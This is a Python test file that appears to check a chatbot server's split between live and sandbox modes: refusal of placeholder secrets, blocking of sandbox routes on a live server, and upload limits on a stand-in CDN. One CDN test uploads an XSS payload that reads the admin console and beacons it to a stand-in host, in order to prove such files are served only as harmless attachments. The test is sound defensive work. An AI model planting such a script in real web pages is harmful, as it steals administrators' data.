"""A server whose page tokens are all in PAGES_FILE is live, never a sandbox;
and the sandbox's Graph stand-in never serves a page anyone can write, nor keeps uploads without end."""

import pytest
import requests
from isolation_support import PAGE_A, PAGE_B, standin_for_both_pages, two_ward_server
from pages_support import write_pages_file
from sandbox_server import SandboxServer
from test_startup import serve

from sandbox.standin_cdn import MAX_FILES

pytestmark = pytest.mark.slow


def test_placeholder_secrets_are_refused_when_only_the_pages_file_has_tokens(tmp_path):
    pages = write_pages_file(tmp_path, PAGE_A, dict(PAGE_B, app_secret="change-me"))
    line = serve(
        tmp_path,
        PAGES_FILE=str(pages),
        PAGE_ACCESS_TOKEN=None,
        APP_SECRET="change-me",
        VERIFY_TOKEN="change-me",
        SECRET_KEY="change-me",
    )
    assert "PAGES_FILE has page tokens set, so this is a live page" in line
    for name in ("APP_SECRET", "VERIFY_TOKEN", f"app_secret of page {PAGE_B['page_id']}", "SECRET_KEY"):
        assert name in line
    assert not (tmp_path / "data").exists()


def test_a_page_without_its_own_verify_token_needs_a_real_global_one(tmp_path):
    page = {k: v for k, v in PAGE_A.items() if k != "verify_token"}
    line = serve(
        tmp_path,
        PAGES_FILE=str(write_pages_file(tmp_path, page)),
        PAGE_ACCESS_TOKEN=None,
        VERIFY_TOKEN=None,
        SECRET_KEY="0123456789abcdef",
    )
    assert f"verify_token of page {PAGE_A['page_id']} is empty" in line


@pytest.fixture
def live_wards(tmp_path):
    graph = standin_for_both_pages()
    server = two_ward_server(tmp_path / "bot", graph).start()
    yield server
    server.stop()
    graph.close()


def test_tokens_only_in_the_pages_file_make_a_live_server(live_wards):
    server = live_wards
    for method, path in [
        ("GET", "/simulator"),
        ("GET", "/simulator/api/citizens"),
        ("POST", "/simulator/api/send"),
        ("PUT", "/graph-standin/cdn/x.html"),
        ("GET", "/graph-standin/_sent"),
        ("POST", "/graph-standin/v21.0/me/messages"),
    ]:
        assert requests.request(method, server.url + path, data=b"<h1>x</h1>", timeout=10).status_code == 404, path
    login = requests.get(server.url + "/console/login", timeout=10)
    assert "Secure" in login.headers["Set-Cookie"]  # HTTPS only: the proxy in front serves it
    log = open(server.log.name, encoding="utf-8", errors="replace").read()
    assert "PAKN Bot on" in log and "Sandbox mode" not in log and "First console login" not in log


@pytest.fixture
def sandbox(tmp_path):
    server = SandboxServer(tmp_path / "sandbox").start()
    yield server
    server.stop()


def test_the_standin_cdn_never_serves_a_page(sandbox):
    cdn = sandbox.url + "/graph-standin/cdn/"
    page = b"<script>fetch('/console/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"
    for name, claimed in [
        ("a.html", "text/html"),
        ("b.svg", "image/svg+xml"),
        ("c.png", "text/html; charset=utf-8"),
        ("d.xml", "application/xhtml+xml"),
        ("e", ""),
    ]:
        assert requests.put(cdn + name, data=page, headers={"Content-Type": claimed}, timeout=10).ok
        served = requests.get(cdn + name, timeout=10)
        assert served.content == page
        assert served.headers["Content-Type"] == "application/octet-stream", name
        assert served.headers["Content-Disposition"] == "attachment", name
        assert served.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in served.headers["Content-Security-Policy"]
    requests.put(cdn + "photo.jpg", data=b"\xff\xd8\xff", headers={"Content-Type": "image/jpeg"}, timeout=10)
    photo = requests.get(cdn + "photo.jpg", timeout=10)
    assert photo.headers["Content-Type"] == "image/jpeg" and "Content-Disposition" not in photo.headers


def test_the_standin_cdn_keeps_a_bounded_number_of_uploads(sandbox):
    cdn = sandbox.url + "/graph-standin/cdn/"
    http = requests.Session()
    for n in range(MAX_FILES + 1):
        assert http.put(f"{cdn}up-{n}.bin", data=b"x", timeout=10).ok
    assert http.get(f"{cdn}up-0.bin", timeout=10).status_code == 404  # the oldest made room
    assert http.get(f"{cdn}up-{MAX_FILES}.bin", timeout=10).content == b"x"
